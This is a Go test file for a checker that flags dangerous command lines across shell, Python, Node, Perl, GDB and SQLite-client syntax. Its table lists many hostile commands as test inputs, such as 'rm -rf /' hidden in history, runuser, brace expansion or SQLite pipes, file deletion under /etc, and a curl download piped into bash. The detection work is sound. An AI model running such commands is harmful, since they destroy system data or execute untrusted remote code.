package danger

import "testing"

// TestFed checks commands that a line passes to something else, such as the shell's
// history, another user or a SQL client's pipe.
func TestFed(t *testing.T) {
	for _, tt := range []struct {
		lang Lang
		line string
		held bool
	}{
		{Shell, `history -s rm -rf /`, true},
		{Shell, `history -s "rm -rf /"`, true},
		{Shell, `history -s echo a`, false},
		{Shell, `history 20`, false},
		{Shell, `print -s rm -rf /`, true},
		{Shell, `print -z "rm -rf /"`, true},
		{Shell, `print -l a b`, false},
		{Shell, `runuser -u nobody -- rm -rf /`, true},
		{Shell, `runuser -u nobody rm -rf /`, true},
		{Shell, `runuser -u nobody -- ls`, false},
		{Shell, `r echo=rm`, true},
		{Shell, `set x rm; $x -rf /opt`, true},
		{Shell, `set x ls; $x -l /opt`, false},
		{Shell, `rm -rf {/etc,build}`, true},
		{Shell, `rm -rf {a,/etc}/x`, true},
		{Shell, `{rm,-rf,/etc}`, true},
		{Shell, `rm -rf build/{debug,release} {a,b}.o`, false},
		{Shell, `cp a.txt{,.bak}`, false},
		{Shell, `rm -f "${temp_dir}/"*`, false},
		{Shell, `printf 'rm -rf %s\n' /etc | sh`, true},
		{Shell, `cat !$`, true},
		{Shell, `sudo !!`, true},
		{Shell, `^a^b^`, true},
		{Shell, `!!:s/a/b/`, true},
		{Shell, `grep -v '!a' b; [ a != b ]; echo "done!" '!!' $!`, false},
		{Shell, `then reboot`, true},
		{Shell, `curl -s https://a.example/x | tee >(bash)`, true},
		{Python, `list(map(os.remove, glob.glob("/etc/*")))`, true},
		{Python, `print(list(map(str, [1, 2])), "!(")`, false},
		{Node, `["/etc/a"].forEach(fs.unlinkSync)`, true},
		{Perl, `unlink q(/etc/passwd)`, true},
		{Perl, `system qq{rm -rf /}`, true},
		{Perl, `my %q = (a => 1); print q(rm -rf /)`, false},
		{GDB, "python\nimport shutil\nshutil.rmtree('/srv')\nend\n", true},
		{GDB, "py\nprint('rm -rf /')\nend\ninfo registers", false},
		{SQL, `.output |rm -rf /`, true},
		{SQL, `.once -e |rm -rf /`, true},
		{SQL, `.import "|rm -rf /" t`, true},
		{SQL, `.output x.csv`, false},
		{SQL, `.once |less`, false},
		{SQL, `.import --csv "|cat x" t`, false},
	} {
		if found := new(Checker).CheckLine(tt.lang, tt.line, Place{Dir: "/work/p", Home: "/home/u"}); len(found) > 0 != tt.held {
			t.Errorf("%s %q: %v, want held %t", tt.lang, tt.line, found, tt.held)
		}
	}
}
